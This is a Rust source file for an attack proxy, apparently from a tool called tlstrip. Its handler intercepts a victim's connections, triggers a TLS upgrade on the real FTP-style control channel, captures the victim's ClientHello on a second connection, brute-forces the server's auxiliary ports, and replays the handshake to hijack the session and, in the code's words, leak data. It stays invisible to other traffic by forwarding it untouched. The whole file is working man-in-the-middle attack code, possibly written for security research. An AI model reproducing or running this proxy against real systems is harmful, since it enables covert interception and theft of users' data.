use crate::config::ProxyConfig;
use crate::error::{ProxyError, ProxyErrorKind};
use bytes::Bytes;
use log::{debug, info, warn};
use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;
use tlstrip_core::error::{CoreError, CoreErrorKind};
use tlstrip_core::record::read_record;
use tlstrip_core::relay::{RelayOutcome, relay};
use tlstrip_core::state::{AttackState, PeerStateStore};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout};

/// Per-peer attack state machine. The dispatcher invokes `handle_connection`
/// once per accepted connection; the handler owns the client stream for the
/// duration of the call and leaves it closed on return.
pub struct AttackHandler {
    pub config: ProxyConfig,
    pub peers: Arc<PeerStateStore>,
}

impl AttackHandler {
    pub fn new(config: ProxyConfig) -> Self {
        Self {
            config,
            peers: Arc::new(PeerStateStore::new()),
        }
    }

    pub async fn handle_connection(
        &self,
        peer: IpAddr,
        client: TcpStream,
        armed: bool,
    ) -> Result<(), ProxyError> {
        if !armed {
            return self.forward_unarmed(peer, client).await;
        }
        match self.peers.get(peer).await {
            AttackState::Finished => {
                debug!("Attack already finished for {peer}; ignoring connection");
                Ok(())
            }
            AttackState::FirstContact
                if self
                    .peers
                    .transition(peer, AttackState::FirstContact, AttackState::PreparationStarted)
                    .await =>
            {
                self.prepare_attack(peer, client).await
            }
            // Lost the first-contact race, or preparation is already under
            // way or done: this is the auxiliary-channel connection.
            _ => self.leak_data(peer, client).await,
        }
    }

    /// Non-victim traffic is forwarded untouched so the proxy stays invisible
    /// on paths it does not attack.
    async fn forward_unarmed(&self, peer: IpAddr, mut client: TcpStream) -> Result<(), ProxyError> {
        let Some(unarmed_addr) = self.config.unarmed_addr else {
            return Err(ProxyError::new(
                ProxyErrorKind::UnarmedTargetMissing,
                format!("Dropping unarmed connection from {peer}").as_str(),
            ));
        };
        info!("Forwarding unarmed traffic from {peer} to {unarmed_addr}");
        let mut target = TcpStream::connect(unarmed_addr).await?;
        let outcome = relay(&mut client, &mut target).await?;
        info!(
            "Unarmed forward for {peer} finished: {} bytes up, {} bytes down",
            outcome.client_to_target, outcome.target_to_client
        );
        Ok(())
    }

    /// First armed connection from a peer: trigger the TLS upgrade on the real
    /// control channel, then carry the handshake and everything after it
    /// transparently. The peer counts as `Prepared` only once this relay has
    /// run to completion; the hijack targets the peer's next connection, not
    /// this one.
    async fn prepare_attack(&self, peer: IpAddr, mut client: TcpStream) -> Result<(), ProxyError> {
        info!("Attack preparation started for {peer}");
        let control_addr = self.config.control_addr();
        let timeouts = &self.config.timeouts;

        let mut target = TcpStream::connect(control_addr).await?;
        debug!("Connected to control channel {control_addr}");

        let mut buf = [0u8; 4096];
        timeout(timeouts.control_read, target.read(&mut buf))
            .await
            .map_err(|_| read_timeout("server banner"))??;
        target
            .write_all(self.config.protocol.upgrade_command())
            .await?;
        timeout(timeouts.control_read, target.read(&mut buf))
            .await
            .map_err(|_| read_timeout("upgrade acknowledgement"))??;
        debug!(
            "Sent {} upgrade to {control_addr} for {peer}",
            self.config.protocol
        );

        let outcome = relay(&mut client, &mut target).await?;
        self.peers
            .transition(peer, AttackState::PreparationStarted, AttackState::Prepared)
            .await;
        info!(
            "Attack preparation finished for {peer}: {} bytes up, {} bytes down",
            outcome.client_to_target, outcome.target_to_client
        );
        Ok(())
    }

    /// Second, distinct connection from a prepared peer: capture its
    /// ClientHello and brute-force the target's auxiliary ports until one
    /// accepts the replay, then relay the hijacked session.
    async fn leak_data(&self, peer: IpAddr, mut client: TcpStream) -> Result<(), ProxyError> {
        if !self.config.protocol.has_auxiliary_channel() {
            warn!(
                "{} has no auxiliary channel; nothing to leak from {peer}",
                self.config.protocol
            );
            return Ok(());
        }
        info!("Data leakage started for {peer}");
        let timeouts = self.config.timeouts.clone();

        // Not a flag check: stolen data must not move before the control
        // channel is fully primed.
        if !self
            .peers
            .wait_until(peer, AttackState::Prepared, timeouts.prepare_wait)
            .await
        {
            return Err(ProxyError::new(
                ProxyErrorKind::PreparationTimeout,
                format!(
                    "Gave up on {peer} after {:?}",
                    timeouts.prepare_wait
                )
                .as_str(),
            ));
        }

        // Consume the ClientHello; a peek would desynchronize the replay.
        let client_hello = timeout(timeouts.control_read, read_record(&mut client))
            .await
            .map_err(|_| read_timeout("auxiliary ClientHello"))??;
        debug!(
            "Captured ClientHello from {peer} ({} bytes)",
            client_hello.len()
        );

        // The server opens its auxiliary port only after the control-channel
        // command that triggers it (PASV/RETR for FTP).
        sleep(timeouts.settle_delay).await;

        let deadline = Instant::now() + timeouts.probe_deadline;
        while Instant::now() < deadline {
            for port in &self.config.probe_ports {
                // A pass over many filtered candidates must not outlive the
                // deadline; each attempt gets at most the remaining time.
                let Some(budget) = attempt_budget(deadline, timeouts.probe_connect) else {
                    break;
                };
                let auxiliary_addr = self.config.auxiliary_addr(*port);
                debug!("Probing auxiliary port {auxiliary_addr} for {peer}");
                let target = match timeout(budget, TcpStream::connect(auxiliary_addr)).await {
                    Ok(Ok(target)) => target,
                    Ok(Err(e)) if e.kind() == std::io::ErrorKind::ConnectionRefused => {
                        debug!("Auxiliary port {auxiliary_addr} refused for {peer}");
                        continue;
                    }
                    Ok(Err(e)) => {
                        warn!("Probe of {auxiliary_addr} for {peer} failed: {e}");
                        continue;
                    }
                    Err(_) => {
                        warn!("Probe of {auxiliary_addr} for {peer} timed out");
                        continue;
                    }
                };
                let Some(handshake_budget) = attempt_budget(deadline, timeouts.probe_connect)
                else {
                    break;
                };
                match self
                    .hijack_session(peer, &mut client, &client_hello, target, handshake_budget)
                    .await
                {
                    Ok(outcome) => {
                        self.peers
                            .transition(peer, AttackState::Prepared, AttackState::Finished)
                            .await;
                        info!(
                            "Data leakage finished for {peer} via {auxiliary_addr}: {} bytes up, {} bytes down",
                            outcome.client_to_target, outcome.target_to_client
                        );
                        return Ok(());
                    }
                    Err(e) => {
                        warn!("Hijack via {auxiliary_addr} for {peer} failed: {e}");
                    }
                }
            }
            sleep(timeouts.probe_interval).await;
        }

        Err(ProxyError::new(
            ProxyErrorKind::ProbeDeadlineExceeded,
            format!("No auxiliary port accepted a hijack for {peer}").as_str(),
        ))
    }

    async fn hijack_session(
        &self,
        peer: IpAddr,
        client: &mut TcpStream,
        client_hello: &Bytes,
        mut target: TcpStream,
        handshake_timeout: Duration,
    ) -> Result<RelayOutcome, ProxyError> {
        target.write_all(client_hello).await?;
        let server_hello = timeout(handshake_timeout, read_record(&mut target))
            .await
            .map_err(|_| read_timeout("ServerHello"))??;
        debug!(
            "Forwarding ServerHello to {peer} ({} bytes)",
            server_hello.len()
        );
        client.write_all(&server_hello).await?;
        Ok(relay(client, &mut target).await?)
    }
}

fn read_timeout(what: &str) -> CoreError {
    CoreError::new(
        CoreErrorKind::TimeoutError,
        format!("Reading the {what} timed out").as_str(),
    )
}

/// Time left before `deadline`, capped at `cap`; `None` once the deadline has
/// passed.
fn attempt_budget(deadline: Instant, cap: Duration) -> Option<Duration> {
    let remaining = deadline.saturating_duration_since(Instant::now());
    if remaining.is_zero() {
        return None;
    }
    Some(remaining.min(cap))
}
